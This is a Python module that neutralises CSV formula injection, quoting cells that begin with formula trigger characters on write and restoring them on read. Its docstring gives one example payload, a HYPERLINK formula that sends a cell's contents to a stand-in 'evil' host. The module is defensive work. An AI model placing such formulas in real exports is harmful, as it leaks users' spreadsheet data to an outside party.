"""CSV files people open in a spreadsheet: formulas neutralised on the way out, restored on
the way back in.

A legacy value such as `=HYPERLINK("http://evil/?"&A1)` or `+49 30 1234` written as it is to a
CSV becomes a formula when the file is opened in Excel or LibreOffice. Every CSV crmmigrate
writes (staged .csv, rejects, changes, notes, failures, filtered, dedupe pairs and review,
decisions) goes through `write_csv`, which applies the OWASP rule: a text cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a `'` in front, which a spreadsheet
shows as text. So that the raw value stays recoverable and round trips are exact, a cell that
begins with quotes followed by one of those characters gets one more quote too; removing one
leading quote from a cell that begins with quotes then one of those characters gives the raw
value back, and `read_csv` (every reader of a CSV crmmigrate wrote) does exactly that.

Only text is touched: numbers in numeric columns are numbers, never formulas, and Parquet
files and the target database always get the values as they are.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

QUOTE = "'"
_TRIGGER = r"[=+\-@\t\r]"
_NEEDS_QUOTE = rf"'*{_TRIGGER}"  # a raw value that is written with one more quote in front
_QUOTED = rf"'+{_TRIGGER}"  # a written value from which one quote is taken away


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with a quote in front of every text cell and column name a spreadsheet would
    read as a formula (or that begins with quotes before such a character); the frame itself
    is not changed."""
    return _each_text_column(frame, _NEEDS_QUOTE, lambda hit: QUOTE + hit)


def restore(frame: pd.DataFrame) -> pd.DataFrame:
    """What `neutralise` did undone: the raw values (and column names) back."""
    return _each_text_column(frame, _QUOTED, lambda hit: hit.str.slice(1))


def write_csv(frame: pd.DataFrame, target: Path | str | IO[str], **options: Any) -> None:
    """`frame.to_csv(target, index=False, encoding="utf-8", **options)`, neutralised, with
    CRLF line ends (RFC 4180): Python's csv quotes a cell only for the line end's characters,
    so with "\n" alone a cell holding a carriage return would break its row in two."""
    neutralise(frame).to_csv(
        target, **{"index": False, "encoding": "utf-8", "lineterminator": "\r\n", **options}
    )


def append_row(path: Path, row: dict[str, Any], columns: list[str]) -> None:
    """One row added to the CSV at `path` (with the header first when the file is new)."""
    write_csv(pd.DataFrame([row], columns=columns), path, mode="a", header=not Path(path).exists())


def read_csv(path: Path | str, **options: Any) -> pd.DataFrame:
    """A CSV crmmigrate wrote, every cell a string (empty as ""), raw values restored."""
    return restore(pd.read_csv(path, **{"dtype": str, "keep_default_na": False, **options}))


def _each_text_column(frame: pd.DataFrame, pattern: str, change: Any) -> pd.DataFrame:
    """`change` applied to the text cells, and column names, that match `pattern`."""
    names = pd.Series(frame.columns, dtype=object)
    named = names.map(lambda name: isinstance(name, str) and re.match(pattern, name) is not None)
    if named.any():  # a legacy header is a row a person sees too
        names[named] = change(names[named])
        frame = frame.set_axis(pd.Index(names), axis=1)
    changed: pd.DataFrame | None = None
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        try:
            hit = column.str.match(pattern, na=False).astype(bool)
        except AttributeError:  # an object column holding no text at all
            continue
        if not hit.any():
            continue
        if changed is None:
            changed = frame.copy()
        updated = column.astype(object).copy()
        updated[hit] = change(column[hit])
        changed.isetitem(position, updated)
    return frame if changed is None else changed


__all__ = ["QUOTE", "append_row", "neutralise", "read_csv", "restore", "write_csv"]
